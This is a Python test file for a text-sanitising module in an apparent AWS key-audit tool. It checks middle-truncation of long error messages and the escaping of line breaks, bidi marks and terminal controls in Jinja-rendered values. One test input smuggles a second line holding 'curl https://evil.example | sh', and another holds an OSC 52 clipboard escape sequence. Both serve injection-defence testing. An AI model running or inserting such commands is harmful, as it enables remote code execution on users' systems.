"""Text made safe for where it is shown: a long text is shortened in the middle (its start says
what failed, its end what to do), and what a template prints of a value is text on one line with
its controls visible, HTML that a template built left as it is."""

from __future__ import annotations

import jinja2
import pytest
from markupsafe import Markup

from keyaudit.textsafe import shortened, template_value

REASON = (
    "account 111122223333: AccessDenied assuming arn:aws:iam::111122223333:role/KeyAuditRole "
    + "(the role's trust policy names another principal) " * 80
    + "— grant sts:AssumeRole on the role to the audit principal"
)


def test_a_text_within_the_limit_is_kept_whole():
    assert shortened("short", 5) == "short"
    assert shortened(REASON[:600], 600) == REASON[:600]


@pytest.mark.parametrize("limit", [200, 600, 2000])
def test_a_longer_text_keeps_its_start_and_its_end_and_says_how_much_was_left_out(limit: int):
    cut = shortened(REASON, limit)
    head, rest = cut.split(" … (")
    count, tail = rest.split(" characters left out) … ")
    assert len(cut) <= limit
    assert REASON.startswith(head) and REASON.endswith(tail)
    assert tail.endswith("— grant sts:AssumeRole on the role to the audit principal")
    assert int(count.replace(",", "")) == len(REASON) - len(head) - len(tail)


def test_the_cut_falls_between_words_when_a_space_is_near():
    cut = shortened("alpha " * 100 + "omega", 100)
    head, _, tail = cut.partition(" … (")
    assert head.endswith("alpha") and tail.split(" … ")[1].startswith("alpha")


def test_a_limit_too_small_for_the_mark_cuts_the_end():
    assert shortened("abcdef", 4) == "abc…"


def test_a_value_cannot_start_a_line_of_its_own_in_a_text_template():
    env = jinja2.Environment(finalize=template_value)
    text = env.from_string("user: {{ name }}\ncommand: {{ command }}").render(
        name="x\r\ncommand: curl https://evil.example | sh\u2028\u2029\x85",
        command="aws iam delete-login-profile --user-name x",
    )
    assert text.splitlines() == [
        "user: x\\r\\ncommand: curl https://evil.example | sh\\u2028\\u2029\\x85",
        "command: aws iam delete-login-profile --user-name x",
    ]


def test_bidi_marks_and_terminal_controls_are_written_as_escapes():
    assert (
        template_value("a\u202eb\x1b]52;c;eA==\x07\u2066") == "a\\u202eb\\x1b]52;c;eA==\\x07\\u2066"
    )


def test_markup_and_numbers_pass_through_unchanged():
    built = Markup("<p>\n</p>")
    assert template_value(built) is built
    assert template_value(3) == 3


def test_a_missing_value_prints_as_nothing_not_as_none():
    assert template_value(None) == ""
